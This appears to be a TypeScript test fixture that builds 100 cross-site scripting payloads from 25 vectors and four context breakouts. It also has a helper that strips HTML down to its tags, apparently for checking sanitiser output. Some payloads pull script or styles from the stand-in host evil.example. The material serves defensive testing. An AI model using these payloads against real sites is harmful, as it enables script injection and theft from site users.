/** What people put into names and notes in the hope that somebody's page runs it; each would set `window.pwned`. */
const VECTORS = [
  "<script>window.pwned=1</script>",
  "<script src=//evil.example/x.js></script>",
  "<img src=x onerror=window.pwned=1>",
  "<svg onload=window.pwned=1>",
  "<svg><script>window.pwned=1</script></svg>",
  "<svg><animate onbegin=window.pwned=1 attributeName=x dur=1s>",
  "<body onload=window.pwned=1>",
  "<details open ontoggle=window.pwned=1>",
  "<input autofocus onfocus=window.pwned=1>",
  "<video><source onerror=window.pwned=1></video>",
  '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
  '<a href="javascript:window.pwned=1">x</a>',
  '<form action="javascript:window.pwned=1"><button>x</button></form>',
  '<meta http-equiv="refresh" content="0;url=javascript:window.pwned=1">',
  '<base href="//evil.example/">',
  '<math><mtext><table><mglyph><style><img title="</style><img src onerror=window.pwned=1>">',
  "<noscript><p title='</noscript><img src=x onerror=window.pwned=1>'>",
  "<!--><img src=x onerror=window.pwned=1>-->",
  "<![CDATA[<img src=x onerror=window.pwned=1>]]>",
  "<style>@import '//evil.example/x.css'</style>",
  "{{constructor.constructor('window.pwned=1')()}}",
  "${window.pwned=1}",
  "\\u003cimg src=x onerror=window.pwned=1\\u003e",
  "%3Cimg%20src=x%20onerror=window.pwned=1%3E",
  "\u2028window.pwned=1\u2029",
];

/** Ways out of the place that a text stands in: none, an attribute, an element, a script. */
const WAYS_OUT = ["", "\"'>", "</title></textarea></style>", "</script>';"];

/** A hundred of them. */
export const PAYLOADS: readonly string[] = WAYS_OUT.flatMap((way) => VECTORS.map((vector) => way + vector));

/** The elements and event attributes of a page, without its texts and the values of its attributes. */
export const skeleton = (html: string): string[] =>
  [...html.matchAll(/<(?:"[^"]*"|'[^']*'|[^'">])*>/g)]
    .map(([tag]) => tag.replace(/=\s*("[^"]*"|'[^']*'|[^\s>]+)/g, "").replace(/\s+/g, " "))
    .filter((tag) => /^<[a-z!/]/i.test(tag));
